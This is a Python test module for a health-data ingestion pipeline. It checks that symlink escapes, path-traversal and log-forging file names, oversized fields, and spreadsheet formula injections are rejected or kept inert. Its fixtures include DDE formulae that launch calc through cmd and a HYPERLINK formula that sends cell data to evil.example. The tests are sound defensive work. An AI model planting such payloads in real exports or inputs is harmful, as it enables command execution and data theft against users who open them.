"""Malicious or absurd input: links and names that try to leave the landing folder,
names that try to forge log lines, absurdly large fields, and spreadsheet formulae in
the text fields that can reach an export."""

from __future__ import annotations

import logging
import os
from pathlib import Path

import duckdb
import pytest

from footprint.contracts import all_contracts
from footprint.ingest.deliveries import MAX_LINE_BYTES
from footprint.ingest.loader import load_feed
from tests.reliability.conftest import make_landing

AE = "trust__ae_attendances"
MAP = "ccg__practice_map"
FORMULAE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _contract(name: str):
    return next(c for c in all_contracts() if c.name == name)


def _query(warehouse: Path, sql: str, parameters=None) -> list[tuple]:
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        return connection.execute(sql, parameters or []).fetchall()


@pytest.fixture(scope="module")
def clean_landing(tmp_path_factory) -> Path:
    return make_landing(tmp_path_factory.mktemp("clean") / "landing", faults="none")


@pytest.fixture
def landing(tmp_path, clean_landing) -> Path:
    """A private copy of a fault-free delivery set (hard links: cheap, and files are
    replaced, never edited in place)."""
    copy = tmp_path / "landing"
    for path in clean_landing.rglob("*"):
        target = copy / path.relative_to(clean_landing)
        if path.is_dir():
            target.mkdir(parents=True, exist_ok=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            os.link(path, target)
    return copy


def _replace(path: Path, text: str) -> None:
    path.unlink()
    path.write_text(text)


def _loaded_paths(warehouse: Path) -> set[str]:
    return {
        p
        for (p,) in _query(
            warehouse, "select file_path from raw.load_manifest where status <> 'rejected'"
        )
    }


def _outside(tmp_path: Path, clean_landing: Path) -> Path:
    """A folder beside landing holding a valid-looking feed of its own."""
    outside = tmp_path / "outside" / "trust" / "ae_attendances"
    outside.mkdir(parents=True)
    source = sorted((clean_landing / "trust" / "ae_attendances").iterdir())[0]
    (outside / "ae_attendances_2031-01-01.csv").write_bytes(source.read_bytes())
    return outside


@pytest.mark.parametrize(
    "link", ["organisation folder", "feed folder", "subfolder", "file", "file by relative path"]
)
def test_a_symbolic_link_cannot_make_ingestion_read_outside_landing(
    tmp_path, landing, clean_landing, session_key, link
):
    outside = _outside(tmp_path, clean_landing)
    feed = landing / "trust" / "ae_attendances"
    if link == "organisation folder":
        trust = landing / "trust"
        trust.rename(tmp_path / "trust_moved")
        trust.symlink_to(outside.parent, target_is_directory=True)
    elif link == "feed folder":
        for path in feed.iterdir():
            path.unlink()
        feed.rmdir()
        feed.symlink_to(outside, target_is_directory=True)
    elif link == "subfolder":
        (feed / "resent").symlink_to(outside, target_is_directory=True)
    elif link == "file":
        (feed / "ae_attendances_2031-01-01.csv").symlink_to(
            outside / "ae_attendances_2031-01-01.csv"
        )
    else:
        relative = os.path.relpath(outside / "ae_attendances_2031-01-01.csv", feed)
        (feed / "ae_attendances_2031-01-01.csv").symlink_to(relative)
    warehouse = tmp_path / "warehouse.duckdb"
    summaries = [load_feed(c, landing, warehouse, session_key) for c in all_contracts()]
    assert {s.feed for s in summaries} == {c.name for c in all_contracts()}
    loaded = _loaded_paths(warehouse)
    assert not [p for p in loaded if "2031" in p or ".." in p or p.startswith("/")]
    assert _query(
        warehouse,
        "select count(*) from raw.trust__ae_attendances where arrival_at >= '2031-01-01'",
    ) == [(0,)]
    # the link is recorded, once, as what it is
    linked = _query(
        warehouse,
        "select file_path, message from raw.load_manifest where status = 'rejected'",
    )
    assert linked and all("symbolic link" in message for _, message in linked)
    # every other feed still loaded in full
    assert {p.split("/")[1] for p in loaded} >= {"incidents", "gp_registrations", "asc_events"}


@pytest.mark.parametrize(
    "name",
    [
        "..%2F..%2Fae_attendances_2025-01-01.csv",
        "%2E%2E%2F%2E%2E%2Fae_attendances_2025-01-01.csv",
        "..\\..\\ae_attendances_2025-01-01.csv",
        "ae_attendances_2025-01-01.csv\nERROR forged log line",
        "ae_attendances_2025-01-01.csv\x1b[2K\x1b[1Gall files loaded",
        "ae_attendances_2025-02-30.csv",
        "ae_attendances_2025-01-01.csv.exe",
    ],
)
def test_a_crafted_file_name_is_rejected_and_cannot_forge_a_log_line(
    tmp_path, landing, session_key, caplog, name
):
    feed = landing / "trust" / "ae_attendances"
    source = sorted(feed.iterdir())[0]
    (feed / name).write_bytes(source.read_bytes() + b"")
    warehouse = tmp_path / "warehouse.duckdb"
    with caplog.at_level(logging.WARNING):
        summary = load_feed(_contract(AE), landing, warehouse, session_key)
    recorded = _query(
        warehouse,
        "select status, message, rows_loaded from raw.load_manifest where file_path = ?",
        [f"trust/ae_attendances/{name}"],
    )
    if name.startswith("."):  # a hidden file (e.g. an upload in progress) is never read
        assert recorded == [] and summary.files_rejected == 0
        assert summary.files_loaded == len(list(feed.iterdir())) - 1
        return
    ((status, message, rows),) = recorded
    assert (status, rows) == ("rejected", 0)
    assert "does not match the feed's pattern" in message or "impossible period" in message
    shown = [m for m in summary.messages if "rejected" in m]
    assert len(shown) == 1
    for text in (*shown, caplog.text):
        assert "\x1b" not in text
        assert "\nERROR forged" not in text
    assert summary.files_loaded == len(list(feed.iterdir())) - 1


def test_a_file_name_that_is_not_text_does_not_stop_ingestion(tmp_path, landing, session_key):
    feed = landing / "trust" / "ae_attendances"
    source = sorted(feed.iterdir())[0]
    name = os.fsencode(feed) + b"/ae_attendances_\xff\xfe.csv"
    with open(name, "wb") as handle:
        handle.write(source.read_bytes())
    warehouse = tmp_path / "warehouse.duckdb"
    summary = load_feed(_contract(AE), landing, warehouse, session_key)
    assert summary.files_rejected == 1
    assert summary.files_loaded == len(os.listdir(feed)) - 1
    (message,) = [m for m in summary.messages if "rejected" in m]
    assert "does not match the feed's pattern" in message


@pytest.mark.parametrize("size", [MAX_LINE_BYTES + 1, 50 * MAX_LINE_BYTES, 200_000])
@pytest.mark.parametrize("feed", [AE, "ambulance__incidents"])
def test_an_absurdly_large_field_is_contained(tmp_path, landing, session_key, feed, size):
    """A field too large for any row rejects its file with the line named; a large but
    possible one quarantines its row; the other files and rows load either way."""
    contract = _contract(feed)
    folder = landing / contract.organisation / contract.feed
    target = next(p for p in sorted(folder.iterdir()) if p.read_bytes().count(b"\n") >= 4)
    lines = target.read_text().split("\n")
    row = 2 if contract.kind == "csv" else 1  # the second data row
    if contract.kind == "csv":
        fields = lines[row].split("|")
        fields[0] = "AE" + "9" * size
        lines[row] = "|".join(fields)
    else:
        lines[row] = lines[row].replace('"incident_id":"', '"incident_id":"' + "9" * size, 1)
    _replace(target, "\n".join(lines))
    data_rows = len(lines) - 1 - (1 if contract.kind == "csv" else 0)
    warehouse = tmp_path / "warehouse.duckdb"
    summary = load_feed(contract, landing, warehouse, session_key)
    relative = target.relative_to(landing).as_posix()
    ((status, message, read, loaded, quarantined),) = _query(
        warehouse,
        "select status, message, rows_read, rows_loaded, rows_quarantined "
        "from raw.load_manifest where file_path = ?",
        [relative],
    )
    if size > MAX_LINE_BYTES:
        assert status == "rejected" and read == 0
        assert f"line {row + 1} is {len(lines[row].encode()):,} bytes long" in message
    else:
        assert (status, read, loaded, quarantined) == ("loaded", data_rows, data_rows - 1, 1)
        ((rule,),) = _query(
            warehouse, "select rule from raw.quarantine where file_path = ?", [relative]
        )
        assert rule == "pattern"
    assert summary.files_loaded == len(list(folder.iterdir())) - (size > MAX_LINE_BYTES)
    for read, loaded, quarantined in _query(
        warehouse, "select rows_read, rows_loaded, rows_quarantined from raw.load_manifest"
    ):
        assert read == loaded + quarantined


def test_formulae_in_free_text_fields_are_kept_as_text_and_are_the_only_free_text(
    tmp_path, landing, session_key
):
    """The practice map's names are the only free text any delivery carries; a formula
    there is loaded as plain text (never evaluated) and stays in the person-free
    reference tables. The published exports are checked for it in the slow suite."""
    free_text = {
        (c.name, col.name)
        for c in all_contracts()
        for col in c.columns
        if col.type == "varchar"
        and not (col.values or col.reference or col.pattern or col.is_identifier)
    }
    assert free_text == {(MAP, "practice_name"), (MAP, "pcn_name")}
    contract = _contract(MAP)
    target = sorted((landing / "ccg" / "practice_map").iterdir())[0]
    lines = target.read_text().split("\n")
    for index, formula in enumerate(FORMULAE, start=1):
        fields = lines[index].split(",")
        fields[1] = '"' + formula.replace('"', '""') + '"'
        lines[index] = ",".join(fields)
    _replace(target, "\n".join(lines))
    warehouse = tmp_path / "warehouse.duckdb"
    load_feed(contract, landing, warehouse, session_key)
    stored = {n for (n,) in _query(warehouse, "select practice_name from raw.ccg__practice_map")}
    assert set(FORMULAE) <= stored
